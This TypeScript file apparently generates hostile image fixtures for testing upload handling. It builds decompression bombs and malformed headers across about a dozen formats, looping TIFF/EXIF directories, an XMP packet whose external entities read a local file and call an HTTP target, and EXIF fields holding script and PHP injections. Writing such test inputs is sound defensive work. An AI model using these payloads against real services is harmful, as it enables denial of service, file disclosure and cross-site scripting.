/** Image bombs, and images with entities, scripts and false sizes in their metadata. */
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

function pngChunk(type: string, body: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type), body])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(body.length, 0)
  frame.writeUInt32BE(crc32(typed), 4)
  return Buffer.concat([frame.subarray(0, 4), typed, frame.subarray(4)])
}

const pngMark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

/** One bit per pixel, all zero; the data may have fewer rows than declared. */
function pngOf(width: number, height: number, packed: Buffer, ...more: Buffer[]): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  return Buffer.concat([
    pngMark,
    pngChunk('IHDR', header),
    ...more,
    pngChunk('IDAT', packed),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

export function imageBombs(): HostileFile[] {
  const bomb = (what: string, fileName: string, content: Buffer) => hostile('bomb', what, fileName, content)
  const gif = Buffer.from(
    'GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;',
    'latin1',
  )
  const webp = Buffer.from(
    'RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\xff\xff\xff\xff\xff\xffVP8L\x06\0\0\0\x2f\xff\xff\xff\x0f\0',
    'latin1',
  )
  const iccpBomb = pngChunk(
    'iCCP',
    Buffer.concat([Buffer.from('icc\0\0'), deflateSync(Buffer.alloc(64 * 1024 * 1024))]),
  )
  const textBomb = pngChunk(
    'zTXt',
    Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(64 * 1024 * 1024))]),
  )
  const row = deflateSync(Buffer.alloc(64))
  return [
    bomb(
      'png: 64 million pixels in a few kilobytes',
      'photo.png',
      pngOf(8000, 8000, deflateSync(Buffer.alloc(1001 * 8000))),
    ),
    bomb('png: 2147483647 pixels per side', 'photo.png', pngOf(0x7fffffff, 0x7fffffff, row)),
    bomb(
      'png: a color profile and a text chunk that are decompression bombs',
      'photo.png',
      pngOf(8, 8, deflateSync(Buffer.alloc(16)), iccpBomb, textBomb),
    ),
    bomb('png: zero dimensions', 'photo.png', pngOf(0, 0, row)),
    bomb('gif: 65535 pixels per side', 'photo.gif', gif),
    bomb('webp: 16 million pixels per side', 'photo.webp', webp),
    bomb(
      'tiff: 2147483647 bytes per strip',
      'scan.tiff',
      tiffOf([
        [256, 4, 100_000],
        [257, 4, 100_000],
        [258, 3, 1],
        [259, 3, 1],
        [262, 3, 1],
        [273, 4, 8],
        [278, 4, 1],
        [279, 4, 0x7fffffff],
      ]),
    ),
    bomb(
      'tiff: a cycle of directories',
      'scan.tiff',
      tiffOf(
        [
          [256, 4, 8],
          [257, 4, 8],
          [258, 3, 1],
          [259, 3, 1],
          [262, 3, 1],
          [273, 4, 8],
          [278, 4, 8],
          [279, 4, 8],
        ],
        8,
      ),
    ),
    bomb('bmp: declares 2 gigapixels', 'photo.bmp', bmpOf(46_000, 46_000)),
    bomb('bmp: negative dimensions', 'photo.bmp', bmpOf(-5, -2_147_483_648)),
    bomb(
      'ico: an image beyond the end of the file',
      'icon.ico',
      Buffer.from([0, 0, 1, 0, 1, 0, 0, 0, 0, 0, 1, 0, 32, 0, 0xff, 0xff, 0xff, 0x7f, 22, 0, 0, 0]),
    ),
    bomb('psd: 300000 pixels per side', 'drawing.psd', psdOf(300_000)),
    bomb(
      'jxl: an overflowing size',
      'photo.jxl',
      Buffer.from([0xff, 0x0a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
    ),
    bomb(
      'qoi: 4 gigapixels per side',
      'photo.qoi',
      Buffer.from('qoif\xff\xff\xff\xff\xff\xff\xff\xff\x04\0\xfd\xfd\xfd\xfd', 'latin1'),
    ),
    bomb(
      'heic: a box of two gigabytes',
      'photo.heic',
      Buffer.from(
        '\0\0\0\x18ftypheic\0\0\0\0mif1heic\x7f\xff\xff\xffmeta\0\0\0\0\x7f\xff\xff\xffhdlr',
        'latin1',
      ),
    ),
    bomb(
      'avif: a grid of 65535 by 65535',
      'photo.avif',
      Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf\x7f\xff\xff\xf0meta\0\0\0\0', 'latin1'),
    ),
  ]
}

/** Entries of tag, type and value; `next` is the offset of the next directory (0: none). */
function tiffOf(entries: readonly (readonly [number, number, number])[], next = 0): Buffer {
  const directory = Buffer.alloc(2 + entries.length * 12 + 4)
  directory.writeUInt16LE(entries.length, 0)
  for (const [index, [tag, type, value]] of entries.entries()) {
    const at = 2 + index * 12
    directory.writeUInt16LE(tag, at)
    directory.writeUInt16LE(type, at + 2)
    directory.writeUInt32LE(1, at + 4)
    directory.writeUInt32LE(value, at + 8)
  }
  directory.writeUInt32LE(next, directory.length - 4)
  return Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]), directory])
}

function bmpOf(width: number, height: number): Buffer {
  const bmp = Buffer.alloc(54 + 64)
  bmp.write('BM')
  bmp.writeUInt32LE(54, 10)
  bmp.writeUInt32LE(40, 14)
  bmp.writeInt32LE(width, 18)
  bmp.writeInt32LE(height, 22)
  bmp.writeUInt16LE(1, 26)
  bmp.writeUInt16LE(24, 28)
  return bmp
}

function psdOf(side: number): Buffer {
  const psd = Buffer.alloc(26 + 14)
  psd.write('8BPS')
  psd.writeUInt16BE(1, 4)
  psd.writeUInt16BE(3, 12)
  psd.writeUInt32BE(side, 14)
  psd.writeUInt32BE(side, 18)
  psd.writeUInt16BE(8, 22)
  psd.writeUInt16BE(3, 24)
  return psd
}

export async function imagesWithHostileMetadata({ http, text }: Targets): Promise<HostileFile[]> {
  const plain = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#3060a0' } })
  const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}"><!ENTITY y SYSTEM "${http}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>&x;&y;</rdf:Description></rdf:RDF></x:xmpmeta>`
  const withXmp = await plain().withXmp(xmp).jpeg().toBuffer()
  const exif = await plain()
    .withExif({
      IFD0: { ImageDescription: `"><script>alert(1)</script> ${http}/exif`, Copyright: '<?php echo 1 ?>' },
    })
    .jpeg()
    .toBuffer()
  const profile = Buffer.alloc(300, 0xff)
  profile.writeUInt32BE(0x7fffffff, 0)
  profile.write('acsp', 36)
  const icc = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), profile])
  const segment = Buffer.alloc(4)
  segment.writeUInt16BE(0xffe2, 0)
  segment.writeUInt16BE(icc.length + 2, 2)
  const jpeg = await plain().jpeg().toBuffer()
  const loop = Buffer.from(exif)
  // The next directory (thumbnail) is the first one again.
  const tiff = loop.indexOf('Exif\0\0') + 6
  const order = loop.toString('latin1', tiff, tiff + 2)
  const at = tiff + (order === 'II' ? loop.readUInt32LE(tiff + 4) : loop.readUInt32BE(tiff + 4))
  const count = order === 'II' ? loop.readUInt16LE(at) : loop.readUInt16BE(at)
  const nextAt = at + 2 + count * 12
  if (order === 'II') loop.writeUInt32LE(8, nextAt)
  else loop.writeUInt32BE(8, nextAt)
  return [
    hostile('external', 'jpg: XMP with external entities', 'photo.jpg', withXmp),
    hostile('script', 'jpg: EXIF with scripts', 'photo.jpg', exif),
    hostile('bomb', 'jpg: EXIF with a cycle of directories', 'photo.jpg', loop),
    hostile(
      'bomb',
      'jpg: a color profile that declares two gigabytes',
      'photo.jpg',
      Buffer.concat([jpeg.subarray(0, 2), segment, icc, jpeg.subarray(2)]),
    ),
  ]
}
